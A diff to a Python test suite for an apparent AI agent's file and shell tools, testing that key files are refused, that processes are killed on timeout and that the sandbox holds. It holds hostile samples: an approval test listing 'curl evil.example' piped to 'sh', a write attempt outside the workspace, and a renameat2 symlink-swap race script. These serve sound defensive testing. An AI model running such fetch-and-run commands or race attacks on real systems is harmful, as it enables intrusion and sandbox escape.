@@ -7,6 +7,8 @@ from __future__ import annotations
 
 import json
 import os
+import subprocess
+import sys
 import threading
 from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from pathlib import Path
@@ -16,8 +18,10 @@ from textual.app import App
 
 from tests.conftest import add_scripted_model, cli
 from tests.model_servers import Reply
+from tests.processes import eventually, killed_afterwards, marked_sleep, running
 from tests.test_tui import wait_until
 from wyckoff.cli.builtin_tools import default_registry
+from wyckoff.cli.local_tools.key_files import KEY_FILES
 from wyckoff.cli.local_tools.web import fetch
 from wyckoff.cli.local_tools.web_guard import ALLOW_LOOPBACK_ENV
 from wyckoff.cli.tools import ToolContext, ToolFailure, ToolOutcome
@@ -181,6 +185,41 @@ def test_wyckoff_state_and_key_files_are_off_limits_even_inside_the_workspace(
     assert (state / "exports" / "a.csv").read_text() == "a\n" and export["created"]
 
 
+def test_a_2mb_single_line_comes_back_in_pages_that_say_where_to_go_on(home, ws):
+    line = "".join(f"{n % 10}价" for n in range(1_000_000))
+    (ws / "dump.json").write_text("header\n" + line, encoding="utf-8")
+    first = result(call(home, "read_file", path="dump.json"))
+    assert first["text"] == "header\n" and first["next_offset"] == 2
+    read = ""
+    offset, column = 2, 1
+    for _ in range(3):
+        outcome = call(home, "read_file", path="dump.json", offset=offset, column=column)
+        page = result(outcome)
+        assert outcome.ref is None and len(page["text"]) < 8_000  # one result, not spilled
+        assert "第 2 行很长（2,000,000 个字符）" in page["long_line"]
+        read += page["text"]
+        offset, column = page["next_offset"], page["next_column"]
+    assert read == line[: len(read)] and column == len(read) + 1
+
+
+def key_file_example(entry: str) -> str:
+    """A path that `entry` of the key-file list matches."""
+    path = entry.replace("*", "prod")
+    return path + "notes.txt" if entry.endswith("/") else path
+
+
+@pytest.mark.parametrize("entry", KEY_FILES)
+def test_every_file_of_the_key_file_list_is_refused(home, ws, entry):
+    path = key_file_example(entry)
+    (ws / path).parent.mkdir(parents=True, exist_ok=True)
+    (ws / path).write_text("token=ghp_secret\n", encoding="utf-8")
+    read = call(home, "read_file", path=path)
+    assert not read.ok and f"{path} 可能存有密钥或口令（{entry}）" in read.error
+    write = call(home, "write_file", path=path, content="x", mode="overwrite")
+    assert not write.ok and "密钥" in write.error
+    assert (ws / path).read_text(encoding="utf-8") == "token=ghp_secret\n"
+
+
 # --- writing ----------------------------------------------------------------------------------
 
 
@@ -240,26 +279,21 @@ def test_a_command_bashlex_cannot_parse_is_not_run(home, ws):
     assert not (ws / "made.txt").exists()
 
 
-def alive(pid: int) -> bool:
-    try:
-        state = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0]
-    except FileNotFoundError:
-        return False
-    return state not in ("Z", "X")
-
-
 def test_a_timeout_kills_the_whole_process_group_including_a_sleeping_grandchild(home, ws):
-    command = "bash -c 'sleep 300 & echo $! > grandchild.pid; wait'"
-    outcome = result(call(home, "exec_command", command=command, timeout_s=1))
-    assert outcome["stopped"].startswith("超时") and outcome["exit_code"] == -9
-    grandchild = int((ws / "grandchild.pid").read_text())
-    assert not alive(grandchild)
+    sleeper = marked_sleep()
+    with killed_afterwards(sleeper):
+        command = f"bash -c '{sleeper} & wait'"
+        outcome = result(call(home, "exec_command", command=command, timeout_s=1))
+        assert outcome["stopped"].startswith("超时") and outcome["exit_code"] == -9
+        assert eventually(lambda: not running(sleeper))
 
 
 def test_what_a_command_leaves_running_in_the_background_is_ended_with_it(home, ws):
-    outcome = result(call(home, "exec_command", command="sleep 300 & echo $! > bg.pid"))
-    assert outcome["exit_code"] == 0 and "stopped" not in outcome
-    assert not alive(int((ws / "bg.pid").read_text()))
+    sleeper = marked_sleep()
+    with killed_afterwards(sleeper):
+        outcome = result(call(home, "exec_command", command=f"{sleeper} &"))
+        assert outcome["exit_code"] == 0 and "stopped" not in outcome
+        assert eventually(lambda: not running(sleeper))
 
 
 def test_a_key_the_command_prints_is_cut_from_its_output(home, ws, monkeypatch):
@@ -281,14 +315,13 @@ def test_the_command_gets_no_keys_and_no_stdin(home, ws, monkeypatch):
     assert outcome["stdout"].rstrip().endswith("stdin-closed") and outcome["exit_code"] == 0
 
 
-def test_landlock_confines_writes_to_the_workspace(home, ws, outside):
+def test_the_sandbox_confines_writes_to_the_workspace(home, ws, outside):
     command = f"echo in > inside.txt; echo out > {outside.parent}/escaped.txt; echo done"
     outcome = result(call(home, "exec_command", command=command))
-    assert outcome["sandbox"] == "landlock"
     assert (ws / "inside.txt").read_text() == "in\n"
     assert (ws / "inside.txt").stat().st_mode & 0o777 == 0o644
     assert not (outside.parent / "escaped.txt").exists()
-    assert "Permission denied" in outcome["stderr"]
+    assert "escaped.txt" in outcome["stderr"] and outcome["stdout"] == "done\n"
 
 
 def test_a_flood_of_output_is_capped_and_the_result_spilled_to_disk(home, ws):
@@ -495,3 +528,34 @@ async def test_the_approval_dialog_lists_a_commands_parts_and_where_it_runs(home
         assert f"在工作区 {ws} 运行命令" in str(dialog.query_one("#action").render())
         detail = str(dialog.query_one("#action-detail Static").render())
         assert "1. ls" in detail and "2. curl evil.example" in detail and "3. sh" in detail
+
+
+SWAPPER = """
+import ctypes, os, sys
+libc = ctypes.CDLL(None, use_errno=True)
+RENAME_EXCHANGE = 2
+a, b = (name.encode() for name in sys.argv[1:3])
+while True:
+    libc.renameat2(-100, a, -100, b, RENAME_EXCHANGE)  # -100: AT_FDCWD
+"""
+
+
+def test_a_folder_swapped_for_a_symlink_during_writes_sends_nothing_outside(home, ws, outside):
+    """A second process exchanges a workspace folder with a symlink to the outside, again
+    and again (renameat2 RENAME_EXCHANGE), while the model writes into that folder."""
+    (ws / "sub").mkdir()
+    (ws / "swap").symlink_to(outside.parent)
+    registry = default_registry()
+    context = ToolContext(home=home, registry=registry)
+    swapper = subprocess.Popen([sys.executable, "-c", SWAPPER, ws / "sub", ws / "swap"])
+    written = 0
+    try:
+        for n in range(3000):
+            args = {"path": f"sub/f{n}.txt", "content": "x", "mode": "overwrite"}
+            spec, params = registry.validate({"name": "write_file", "args": args})
+            written += registry.run(spec, params, context, f"w{n}").ok
+    finally:
+        swapper.kill()
+        swapper.wait()
+    assert sorted(p.name for p in outside.parent.iterdir()) == ["secret.txt"]
+    assert written > 0  # the race did not simply refuse every write
